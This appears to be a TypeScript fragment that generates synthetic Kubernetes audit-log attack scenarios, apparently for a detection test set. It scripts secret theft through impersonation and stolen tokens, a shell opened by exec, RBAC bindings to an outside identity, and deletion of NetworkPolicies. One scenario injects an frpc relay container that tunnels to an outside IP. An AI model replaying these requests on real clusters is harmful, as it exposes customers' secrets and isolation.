    const as = { 'impersonate-user': `admin@${c}.example`, 'impersonate-group': `capsule:${c}:owners` };
    reqs1.push(
      ['GET', `/api/v1/namespaces/tenant-${c}/pods?limit=500`, false, as],
      ['GET', `/api/v1/namespaces/tenant-${c}/secrets?limit=500`, true, as],
      ['GET', `/api/v1/namespaces/tenant-${c}/secrets/stripe-live`, true, as],
      ['GET', `/api/v1/namespaces/tenant-${c}/secrets/postgres-app`, true, as],
    );
  }
  add("bribed support engineer reads competitors' customers' Secrets as their admins", T(15.33), v1.ip, v1.ua, v1.login, on(reqs1), 40 * S);
  for (const e of out) if (e.attack === "bribed support engineer reads competitors' customers' Secrets as their admins") e.signsIn = true;

  // 2. Malware on a Toronto support engineer's laptop at 19:30 reads, in the host namespace of the
  // enterprise customer whose ticket they last worked on, the Secrets vcluster synced down from
  // the virtual cluster, and the vcluster's own kubeconfig (cluster-admin of the customer's
  // virtual cluster) and certificates.
  const st = by('support-tor-1');
  const last = lastScoredOf(routine, st.name, T(19.5), (x) => kubectl(x) && /-x-default-x-vc-/.test(x.path)) as DayEvent | undefined;
  const vc = last ? /tenant-([a-z0-9]+)\//.exec(last.path)![1]! : 'globex';
  onLaptop("vcluster's synced Secrets and kubeconfig read from the host namespace (support laptop)", st, 19.5, [
    ['GET', `/api/v1/namespaces/tenant-${vc}/secrets?labelSelector=vcluster.loft.sh%2Fmanaged-by%3Dvc-${vc}&limit=500`, true],
    ['GET', `/api/v1/namespaces/tenant-${vc}/secrets/postgres-app-x-default-x-vc-${vc}`, true],
    ['GET', `/api/v1/namespaces/tenant-${vc}/secrets/vc-${vc}`, true],
    ['GET', `/api/v1/namespaces/tenant-${vc}/secrets/vc-${vc}-certs`, true],
  ], 12 * S);

  // 3. The deploy token the tenant operator created for a customer's CI
  // (`tenant-initech/initech-deployer`, bound to `edit` in the namespace), leaked in the customer's
  // public CI logs, used from a VPS with kubectl.
  const sa: Login = { sub: 'system:serviceaccount:tenant-initech:initech-deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  add("a customer's operator-created deploy token used from a VPS", T(10.4), '45.155.205.12', 'kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9', sa, on([
    ['GET', '/api/v1/namespaces/tenant-initech/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/tenant-initech/secrets?limit=500', true],
    ['PATCH', '/apis/apps/v1/namespaces/tenant-initech/deployments/web?fieldManager=kubectl-patch', true, SMP, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'app', envFrom: [{ secretRef: { name: 'postgres-app' } }] }, { name: 'relay', image: 'ghcr.io/frp-relay/frpc:0.58', args: ['-c', '/dev/null', '--server', '45.155.205.12:7000'] }] } } } })],
  ]), 8 * S);

  // 4. The morning contractor's window closed at 13:00 (their group removed from the cluster's
  // access); the IdP session was not revoked, so kubelogin still refreshes their ID token. At
  // 16:42, from home, they take billing's test Stripe key, a shell, and the live key beside it.
  const c1 = by('contractor-1');
  const cl = lastScoredOf(routine, c1.name, T(12.9), kubectl);
  add("contractor after their access window, on a refreshed token", T(16.7), addressOf(c1, 'home', 0), cl.ua, cl.login, on([
    ['GET', '/api/v1/namespaces/billing-staging/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/billing-staging/secrets/stripe-test-key', true],
    ['GET', '/api/v1/namespaces/billing-staging/pods/billing-v2-5f7b9-k2j4p/exec?command=sh&container=app&stdin=true&stdout=true&tty=true', true, WS],
    ['GET', '/api/v1/namespaces/billing-staging/secrets/stripe-live-key', true],
  ]), 30 * S, c1);

  // 5. Malware on a platform engineer's laptop (through the access proxy, as their kubectl is)
  // creates a tenant namespace as the operator would and binds `admin` in it to an outside identity.
  const p2 = by('platform-2');
  onLaptop('new tenant namespace with a RoleBinding to an outside identity (platform laptop)', p2, 11.2, [
    ['POST', '/api/v1/namespaces?fieldManager=kubectl-create', false, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'tenant-northwind-trial', labels: { 'capsule.clastix.io/tenant': 'northwind-trial', 'tenantly.example/plan': 'trial' } } })],
    ['POST', '/apis/rbac.authorization.k8s.io/v1/namespaces/tenant-northwind-trial/rolebindings?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify(rbac('tenant-northwind-trial', 'owner', { apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'ops@northwind-consulting.io' }))],
  ], 6 * S);

  // 6. The same binding by another door: a Capsule TenantResource in a customer's namespace, whose
  // rawItems Capsule's controller (cluster-admin) writes into every namespace of that tenant.
  const p1 = by('platform-1');
  onLaptop('Capsule TenantResource replicating an admin RoleBinding for an outside identity (platform laptop)', p1, 15.7, [
    ['GET', '/apis/capsule.clastix.io/v1beta2/tenants/globex', false],
    ['POST', '/apis/capsule.clastix.io/v1beta2/namespaces/tenant-globex/tenantresources?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', true, JSON_CT, JSON.stringify({
      apiVersion: 'capsule.clastix.io/v1beta2',
      kind: 'TenantResource',
      metadata: { name: 'support-access', namespace: 'tenant-globex' },
      spec: {
        resyncPeriod: '60s',
        resources: [{ namespaceSelector: { matchLabels: { 'capsule.clastix.io/tenant': 'globex' } }, rawItems: [rbac('tenant-globex', 'vendor-support', { apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'ops@northwind-consulting.io' })] }],
      },
    })],
  ], 10 * S);

  // 7. Malware on a Lisbon SRE's laptop re-labels a customer's namespace into a Capsule tenant the
  // attacker's outside identity owns (Capsule then binds that tenant's owners there).
  const sl2 = by('sre-lis-2');
  onLaptop("a customer's namespace re-labelled into another Capsule tenant (SRE laptop)", sl2, 10.6, [
    ['GET', '/api/v1/namespaces/tenant-umbrella', false],
    ['PATCH', '/api/v1/namespaces/tenant-umbrella?fieldManager=kubectl-label', true, MERGE, JSON.stringify({ metadata: { labels: { 'capsule.clastix.io/tenant': 'northwind-trial' } } })],
  ], 8 * S);

  // 8. Malware on a Toronto SRE's laptop removes the isolation between customers: the
  // cross-tenant deny NetworkPolicy of two customers deleted, a third opened to every namespace.
  const st2 = by('sre-tor-2');
  onLaptop('cross-tenant NetworkPolicies deleted and opened (SRE laptop)', st2, 18.3, [
    ['GET', '/apis/networking.k8s.io/v1/namespaces/tenant-hooli/networkpolicies?limit=500', false],
    ['DELETE', '/apis/networking.k8s.io/v1/namespaces/tenant-hooli/networkpolicies/deny-cross-tenant', true],
    ['DELETE', '/apis/networking.k8s.io/v1/namespaces/tenant-stark/networkpolicies/deny-cross-tenant', true],
    ['PATCH', '/apis/networking.k8s.io/v1/namespaces/tenant-wayne/networkpolicies/deny-cross-tenant?fieldManager=kubectl-patch', true, MERGE, JSON.stringify({ spec: { ingress: [{ from: [{ namespaceSelector: {} }] }] } })],
  ], 20 * S);
  return out;
}

